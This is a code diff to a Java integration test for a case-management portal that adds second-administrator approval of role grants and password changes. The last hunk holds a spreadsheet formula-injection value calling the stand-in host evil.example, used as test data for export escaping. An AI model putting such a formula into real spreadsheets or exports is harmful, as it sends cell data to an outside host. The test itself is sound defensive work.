@@ -56,6 +56,8 @@ import rs.astra.nrm.organisation.Organisation;
 import rs.astra.nrm.organisation.OrganisationType;
 import rs.astra.nrm.organisation.PortalRole;
 import rs.astra.nrm.organisation.PortalUser;
+import rs.astra.nrm.organisation.RoleGrantRow;
+import rs.astra.nrm.organisation.RoleGrantService;
 import rs.astra.nrm.organisation.UserDirectory;
 import rs.astra.nrm.organisation.Viewer;
 import rs.astra.nrm.proceedings.ProceedingsEntryKind;
@@ -90,6 +92,7 @@ class RolePagesIT {
   @Inject IdentificationQueueService queue;
   @Inject AccessReportService reports;
   @Inject AdministrationService administration;
+  @Inject RoleGrantService grants;
   @Inject UserDirectory directory;
   @Inject Instance<HttpServletRequest> request;
   @PersistenceContext(unitName = "nrm") EntityManager em;
@@ -116,6 +119,33 @@ class RolePagesIT {
     String home = session.signIn(username, password);
     assertTrue(home.contains("id=\"currentUser\""), username + " is signed in");
     return session;
+  }
+
+  /**
+   * Creates a user as the demo administrator and, when her role needs it (four eyes), has the second
+   * demo administrator approve it.
+   */
+  private long createApproved(AdministrationService.NewUserForm form) {
+    long id = administration.createUser(viewer("admin"), form);
+    approvePending(id);
+    return id;
+  }
+
+  /** The second demo administrator approves every request pending for a user. */
+  private void approvePending(long userId) {
+    Viewer second = viewer("admin2");
+    for (RoleGrantRow g : grants.pending(second)) {
+      if (g.userId() == userId) {
+        grants.approve(second, g.id(), g.version());
+      }
+    }
+  }
+
+  /** The one request pending for a user, as an administrator sees it. */
+  private RoleGrantRow pendingFor(Viewer administrator, long userId) {
+    List<RoleGrantRow> rows = grants.pending(administrator).stream().filter(g -> g.userId() == userId).toList();
+    assertEquals(1, rows.size(), "one request pending for user " + userId);
+    return rows.get(0);
   }
 
   private String code(long caseId) {
@@ -149,8 +179,7 @@ class RolePagesIT {
             new Object[] {"rp.csw", "RP Social Work Centre", PortalRole.CSW_OFFICER},
             new Object[] {"rp.prosecutor", "RP Prosecutor", PortalRole.PROSECUTOR},
             new Object[] {"rp.police", "RP Police", PortalRole.POLICE_OFFICER})) {
-      administration.createUser(
-          admin, new AdministrationService.NewUserForm((String) u[0], "Tester " + u[0], u[0] + "@example.org", ORGANISATIONS.get((String) u[1]), (PortalRole) u[2], PASSWORD));
+      createApproved(new AdministrationService.NewUserForm((String) u[0], "Tester " + u[0], u[0] + "@example.org", ORGANISATIONS.get((String) u[1]), (PortalRole) u[2], PASSWORD));
     }
     Viewer owner = viewer("rp.coordinator");
     LocalDate today = rs.astra.nrm.shared.NrmTime.today();
@@ -243,6 +272,18 @@ class RolePagesIT {
       assertTrue(browser.all(".user-name").size() >= 11, "the demo users");
       browser.screenshot("admin-users");
       violations.put("users", browser.seriousAccessibilityViolations());
+      // Issue 15: the new user's role menu offers only the roles of the chosen organisation's kind.
+      Object police = browser.script(
+          "var s = document.getElementById('userAdminForm:organisation_input');"
+              + " for (var i = 0; i < s.options.length; i++) { if (s.options[i].text === 'Border Police Directorate') { return s.options[i].value; } } return null;");
+      assertNotNull(police, "the police organisation is in the menu");
+      // As a user does it: open the menu and click the organisation (fires the menu's change event).
+      browser.find("[id='userAdminForm:organisation']").click();
+      browser.visible("[id='userAdminForm:organisation_panel'] li[data-label='Border Police Directorate']").click();
+      browser.waitForAjax();
+      Object offered = browser.script(
+          "return Array.from(document.getElementById('userAdminForm:role_input').options).map(function (o) { return o.value; }).filter(function (v) { return v; }).join(',');");
+      assertEquals("POLICE_OFFICER,DPO", offered, "a police organisation is offered police and data protection roles only");
       browser.open("app/admin/audit-seal.xhtml");
       browser.submit(browser.find("[id='sealForm:verify']"));
       String outcome = browser.find("#sealOutcome").getText();
@@ -328,7 +369,11 @@ class RolePagesIT {
     form.put("userAdminForm:password", "a-long-initial-password");
     String done = session.submitForPage("userAdminForm", "userAdminForm:createUser", form);
     assertTrue(done.contains("Korisnik je napravljen") || done.contains("The user was created"), "the administrator is told");
+    assertTrue(done.contains("čeka odobrenje drugog administratora") || done.contains("waits for a second administrator"), "that her role waits for approval");
     assertTrue(directory.findUser("rp.newuser").isPresent());
+    // A social-work professional reads case data: she signs in once a second administrator approves.
+    assertFalse(new PortalSession(root()).signIn("rp.newuser", "a-long-initial-password").contains("id=\"currentUser\""), "not before the approval");
+    approvePending(directory.findUser("rp.newuser").orElseThrow().getId());
 
     PortalSession newUser = signedIn("rp.newuser", "a-long-initial-password");
     assertTrue(newUser.lastPage().contains("RP Created Centre"), "she works for the new organisation");
@@ -358,12 +403,15 @@ class RolePagesIT {
             .getResultList().stream().map(ActivityRecord::getKind).toList();
     assertEquals(List.of(ActivityRecord.Kind.ORGANISATION_CREATED, ActivityRecord.Kind.USER_CREATED, ActivityRecord.Kind.USER_DEACTIVATED), kinds);
 
-    // Role changes check the version; a deactivated organisation's users cannot sign in either.
-    long second = administration.createUser(admin, new AdministrationService.NewUserForm("rp.second", "Druga Korisnica", null, organisationId, PortalRole.CSW_OFFICER, "another-long-password"));
+    // Role changes wait for a second administrator and check the version; a deactivated
+    // organisation's users cannot sign in either.
+    long second = createApproved(new AdministrationService.NewUserForm("rp.second", "Druga Korisnica", null, organisationId, PortalRole.CSW_OFFICER, "another-long-password"));
     long version = administration.users(admin, new AdministrationService.UserQuery(0, 10, "rp.second", null, null, false)).get(0).version();
-    administration.changeRole(admin, second, version, PortalRole.DPO);
-    assertThrows(ConcurrentUpdateException.class, () -> administration.changeRole(admin, second, version, PortalRole.CSW_OFFICER), "someone changed her meanwhile");
+    assertEquals(AdministrationService.Outcome.AWAITING_APPROVAL, administration.changeRole(admin, second, version, PortalRole.DPO));
+    assertEquals(PortalRole.CSW_OFFICER, viewer("rp.second").role(), "she keeps her role until a second administrator approves");
+    approvePending(second);
     assertEquals(PortalRole.DPO, viewer("rp.second").role());
+    assertThrows(ConcurrentUpdateException.class, () -> administration.changeRole(admin, second, version, PortalRole.CSW_OFFICER), "someone changed her meanwhile");
     long orgVersion = administration.organisations(admin).stream().filter(o -> o.id() == organisationId).findFirst().orElseThrow().version();
     administration.deactivateOrganisation(admin, organisationId, orgVersion);
     assertTrue(directory.viewerFor("rp.second").isEmpty(), "a user of a deactivated organisation is not let in");
@@ -423,11 +471,106 @@ class RolePagesIT {
   }
 
   @Test
+  void aRoleThatReadsCaseDataWaitsForASecondAdministratorAndTheDataProtectionOfficerSeesIt() throws Exception {
+    fixture();
+    Viewer admin = viewer("admin");
+    Viewer admin2 = viewer("admin2");
+    long ngo = administration.createOrganisation(admin, "RP Four Eyes NGO", OrganisationType.NGO, "Sombor");
+    createApproved(new AdministrationService.NewUserForm("rp.foureyes.dpo", "Tester rp.foureyes.dpo", null, ngo, PortalRole.DPO, PASSWORD));
+    // A hotline operator reads no case data: she signs in at once.
+    administration.createUser(admin, new AdministrationService.NewUserForm("rp.foureyes.hotline", "Tester hotline", null, ngo, PortalRole.HOTLINE_OPERATOR, PASSWORD));
+    assertTrue(directory.viewerFor("rp.foureyes.hotline").isPresent(), "no approval for the hotline");
+
+    // One administrator alone: the caseworker exists, but reads no case and cannot sign in.
+    long worker = administration.createUser(admin, new AdministrationService.NewUserForm("rp.foureyes", "Tester rp.foureyes", null, ngo, PortalRole.NGO_CASEWORKER, PASSWORD));
+    assertTrue(directory.viewerFor("rp.foureyes").isEmpty(), "no viewer, so no case, with her role before the approval");
+    assertFalse(new PortalSession(root()).signIn("rp.foureyes", PASSWORD).contains("id=\"currentUser\""), "she cannot sign in");
+    assertEquals("admin.error.awaitingApproval",
+        assertThrows(InvalidRequestException.class, () -> administration.reactivateUser(admin, worker, directory.findUser("rp.foureyes").orElseThrow().getVersion())).messageKey(),
+        "nobody reactivates her around the approval");
+    RoleGrantRow asked = pendingFor(admin, worker);
+    assertTrue(asked.yours() && !asked.decidable(), "her own request is hers to withdraw, not to approve");
+    assertEquals("admin.error.ownRequest", assertThrows(InvalidRequestException.class, () -> grants.approve(admin, asked.id(), asked.version())).messageKey());
+    assertEquals("admin.error.ownRequest", assertThrows(InvalidRequestException.class, () -> grants.reject(admin, asked.id(), asked.version())).messageKey());
+    assertTrue(pendingFor(admin2, worker).decidable());
+
+    // The requester's page shows it waiting, with no approve button for her.
+    PortalSession requester = signedIn("admin", "demo");
+    String mine = grantRow(requester.get("app/admin/users.xhtml").body(), "rp.foureyes");
+    assertTrue(mine.contains("cancelGrant") && !mine.contains("approveGrant"), mine);
+
+    // The organisation's data protection officer sees it on her home page; ASTRA's does not.
+    String dpoRow = grantRow(signedIn("rp.foureyes.dpo", PASSWORD).lastPage(), "rp.foureyes");
+    assertTrue(dpoRow.contains("grant-requester\">admin<"), dpoRow);
+    assertTrue(dpoRow.contains("waiting for approval") || dpoRow.contains("čeka odobrenje"), dpoRow);
+    String today = java.time.format.DateTimeFormatter.ofPattern("dd.MM.yyyy").format(rs.astra.nrm.shared.NrmTime.today());
+    assertTrue(dpoRow.contains(today), "dated in Europe/Belgrade: " + dpoRow);
+    assertFalse(signedIn("dpo", "demo").lastPage().contains("grant-user\">rp.foureyes<"), "another organisation's officer is not told");
+
+    // The second administrator approves on the users page: now she signs in and reads cases.
+    PortalSession second = signedIn("admin2", "demo");
+    String page = second.get("app/admin/users.xhtml").body();
+    int row = page.indexOf("grant-user\">rp.foureyes<");
+    Matcher approve = Pattern.compile("id=\"(userAdminForm:grants:\\d+:approveGrant)\"").matcher(page);
+    assertTrue(row > 0 && approve.find(row), "the second administrator may approve it");
+    String approved = second.submitForPage("userAdminForm", approve.group(1), Map.of());
+    assertTrue(approved.contains("Zahtev je odobren") || approved.contains("The request was approved"), "she is told");
+    assertEquals(PortalRole.NGO_CASEWORKER, viewer("rp.foureyes").role());
+    assertTrue(signedIn("rp.foureyes", PASSWORD).lastPage().contains("RP Four Eyes NGO"), "she signs in");
+    assertEquals(0, cases.count(viewer("rp.foureyes"), CaseListQuery.firstPage(20)), "and reads her organisation's cases (none yet)");
+
+    // Another role: she keeps hers until the decision, and a rejection leaves it.
+    long version = directory.findUser("rp.foureyes").orElseThrow().getVersion();
+    assertEquals(AdministrationService.Outcome.AWAITING_APPROVAL, administration.changeRole(admin, worker, version, PortalRole.NGO_COORDINATOR));
+    assertEquals(PortalRole.NGO_CASEWORKER, viewer("rp.foureyes").role());
+    RoleGrantRow change = pendingFor(admin2, worker);
+    grants.reject(admin2, change.id(), change.version());
+    assertEquals(PortalRole.NGO_CASEWORKER, viewer("rp.foureyes").role(), "a rejection changes nothing");
+    assertEquals("admin.error.grantDecided", assertThrows(InvalidRequestException.class, () -> grants.approve(admin2, change.id(), change.version())).messageKey());
+    String rejectedRow = grantRow(signedIn("rp.foureyes.dpo", PASSWORD).lastPage(), "rp.foureyes");
+    assertTrue(rejectedRow.contains("rejected") || rejectedRow.contains("odbijeno"), "newest first: " + rejectedRow);
+
+    // The user concerned decides nothing about herself, even as an administrator.
+    long third = createApproved(new AdministrationService.NewUserForm("rp.foureyes.admin", "Tester admin", null, ngo, PortalRole.ADMIN, PASSWORD));
+    administration.changeRole(admin, third, directory.findUser("rp.foureyes.admin").orElseThrow().getVersion(), PortalRole.DPO);
+    RoleGrantRow demotion = pendingFor(admin2, third);
+    assertEquals("admin.error.grantConcernsYou",
+        assertThrows(InvalidRequestException.class, () -> grants.reject(viewer("rp.foureyes.admin"), demotion.id(), demotion.version())).messageKey());
+    assertEquals("admin.error.notYourRequest", assertThrows(InvalidRequestException.class, () -> grants.cancel(admin2, demotion.id(), demotion.version())).messageKey());
+    grants.cancel(admin, demotion.id(), demotion.version());
+    assertEquals(PortalRole.ADMIN, viewer("rp.foureyes.admin").role());
+
+    // The activity record: who asked, who decided; ids and role codes only.
+    List<ActivityRecord> records =
+        em.createQuery("select a from ActivityRecord a where a.subjectId = :u and a.kind in :kinds order by a.id", ActivityRecord.class)
+            .setParameter("u", worker)
+            .setParameter("kinds", List.of(ActivityRecord.Kind.ROLE_GRANT_REQUESTED, ActivityRecord.Kind.ROLE_GRANT_APPROVED, ActivityRecord.Kind.ROLE_GRANT_REJECTED))
+            .getResultList();
+    assertEquals(
+        List.of(ActivityRecord.Kind.ROLE_GRANT_REQUESTED, ActivityRecord.Kind.ROLE_GRANT_APPROVED, ActivityRecord.Kind.ROLE_GRANT_REQUESTED, ActivityRecord.Kind.ROLE_GRANT_REJECTED),
+        records.stream().map(ActivityRecord::getKind).toList());
+    assertEquals(List.of(admin.userId(), admin2.userId(), admin.userId(), admin2.userId()), records.stream().map(ActivityRecord::getUserId).toList());
+    assertEquals("ROLE_CHANGE ngo-caseworker -> ngo-coordinator @ " + ngo, records.get(2).getDetail());
+    assertTrue(records.stream().allMatch(a -> a.getDetail().matches("[A-Z_]+ ([a-z-]+ -> )?[a-z-]+ @ \\d+")), "codes only");
+  }
+
+  /** The row of a role-grant table (users page or home page) that concerns a login name. */
+  private static String grantRow(String page, String username) {
+    Matcher rows = Pattern.compile("<tr[^>]*>(.*?)</tr>", Pattern.DOTALL).matcher(page);
+    while (rows.find()) {
+      if (rows.group(1).contains("grant-user\">" + username + "<")) {
+        return rows.group(1);
+      }
+    }
+    throw new AssertionError("no request for " + username + " in " + (page.length() > 3000 ? page.substring(0, 3000) : page));
+  }
+
+  @Test
   void theAdministratorReactivatesAnOrganisationAndAUserAndSetsHerANewPassword() throws Exception {
     fixture();
     Viewer admin = viewer("admin");
     long org = administration.createOrganisation(admin, "RP Returning NGO", OrganisationType.NGO, "Kraljevo");
-    long returning = administration.createUser(admin, new AdministrationService.NewUserForm("rp.returning", "Povratnica", null, org, PortalRole.NGO_CASEWORKER, "first-long-password"));
+    long returning = createApproved(new AdministrationService.NewUserForm("rp.returning", "Povratnica", null, org, PortalRole.NGO_CASEWORKER, "first-long-password"));
     administration.deactivateUser(admin, returning, directory.findUser("rp.returning").orElseThrow().getVersion());
     administration.deactivateOrganisation(admin, org, directory.findOrganisationByName("RP Returning NGO").orElseThrow().getVersion());
 
@@ -465,19 +608,32 @@ class RolePagesIT {
     session.submitForPage("userAdminForm", "userAdminForm:filter", Map.of("userAdminForm:filterText", "rp.returning"));
     session.submitForPage("userAdminForm", "userAdminForm:users:0:setPassword", Map.of("userAdminForm:filterText", "rp.returning"));
     String set = session.submitForPage("userAdminForm", "userAdminForm:savePassword", Map.of("userAdminForm:newPassword", "second-long-password"));
-    assertTrue(set.contains("Nova lozinka je postavljena") || set.contains("The new password was set"), "the administrator is told");
+    // A caseworker's password waits for a second administrator: else one administrator could sign in as her.
+    assertTrue(set.contains("Nova lozinka čeka odobrenje") || set.contains("The new password waits for a second administrator"), "the administrator is told");
     assertFalse(set.contains("second-long-password"), "the password is never shown back");
+    assertTrue(signedIn("rp.returning", "first-long-password").lastPage().contains("id=\"currentUser\""), "the old password holds until the approval");
+    String pendingHash = (String) em.createNativeQuery("select password_hash from role_grant where user_id = ?1 and status = 'PENDING'").setParameter(1, returning).getSingleResult();
+    assertTrue(pendingHash.startsWith("PBKDF2WithHmacSHA256:"), "only the hash waits");
+    approvePending(returning);
+    assertEquals(0L, ((Number) em.createNativeQuery("select count(*) from role_grant where user_id = ?1 and password_hash is not null").setParameter(1, returning).getSingleResult()).longValue(),
+        "a decided request keeps no hash");
     assertFalse(new PortalSession(root()).signIn("rp.returning", "first-long-password").contains("id=\"currentUser\""), "the old password no longer works");
     assertTrue(signedIn("rp.returning", "second-long-password").lastPage().contains("id=\"currentUser\""), "the new one does");
     String stored = (String) em.createNativeQuery("select password_hash from portal_user where username = 'rp.returning'").getSingleResult();
     assertTrue(stored.startsWith("PBKDF2WithHmacSHA256:" + AdministrationService.PASSWORD_HASH_ITERATIONS + ":"), "hashed with the iterations OWASP asks for, not Jakarta Security's 2,048");
 
     List<ActivityRecord.Kind> kinds =
-        em.createQuery("select a from ActivityRecord a where a.userId = :u and a.subjectId in :subjects and a.kind in :kinds order by a.id", ActivityRecord.class)
-            .setParameter("u", admin.userId()).setParameter("subjects", List.of(org, returning))
-            .setParameter("kinds", List.of(ActivityRecord.Kind.ORGANISATION_REACTIVATED, ActivityRecord.Kind.USER_REACTIVATED, ActivityRecord.Kind.USER_PASSWORD_SET))
+        em.createQuery(
+                "select a from ActivityRecord a where a.userId = :u and ((a.subjectId = :org and a.kind = :orgKind) or (a.subjectId = :user and a.kind in :userKinds))"
+                    + " order by a.id",
+                ActivityRecord.class)
+            .setParameter("u", admin.userId())
+            .setParameter("org", org).setParameter("orgKind", ActivityRecord.Kind.ORGANISATION_REACTIVATED)
+            .setParameter("user", returning).setParameter("userKinds", List.of(ActivityRecord.Kind.USER_REACTIVATED, ActivityRecord.Kind.ROLE_GRANT_REQUESTED))
             .getResultList().stream().map(ActivityRecord::getKind).toList();
-    assertEquals(List.of(ActivityRecord.Kind.ORGANISATION_REACTIVATED, ActivityRecord.Kind.USER_REACTIVATED, ActivityRecord.Kind.USER_PASSWORD_SET), kinds);
+    assertEquals(
+        List.of(ActivityRecord.Kind.ROLE_GRANT_REQUESTED, ActivityRecord.Kind.ORGANISATION_REACTIVATED, ActivityRecord.Kind.USER_REACTIVATED, ActivityRecord.Kind.ROLE_GRANT_REQUESTED),
+        kinds, "her role when she was created, then her password, each asked for");
     assertThrows(NotPermittedException.class, () -> administration.setPassword(viewer("rp.coordinator"), returning, 0, "someone-elses-password"));
     assertEquals("admin.error.self",
         assertThrows(InvalidRequestException.class, () -> administration.setPassword(admin, admin.userId(), 0, "a-long-new-password")).messageKey());
@@ -688,7 +844,7 @@ class RolePagesIT {
     // An organisation of its own, so that no other test's list changes.
     Viewer admin = viewer("admin");
     long ngo = administration.createOrganisation(admin, "RP Formula NGO", OrganisationType.NGO, "Subotica");
-    administration.createUser(admin, new AdministrationService.NewUserForm("rp.formula", "Tester rp.formula", "rp.formula@example.org", ngo, PortalRole.NGO_COORDINATOR, PASSWORD));
+    createApproved(new AdministrationService.NewUserForm("rp.formula", "Tester rp.formula", "rp.formula@example.org", ngo, PortalRole.NGO_COORDINATOR, PASSWORD));
     String formula = "=HYPERLINK(\"http://evil.example/?\"&A2,\"Klik\")";
     cases.open(viewer("rp.formula"), new CaseFileService.NewCaseForm(formula, "+381 Formula", LocalDate.of(1990, 1, 1), null, "RS", null, null, Set.of(), null, null));
 
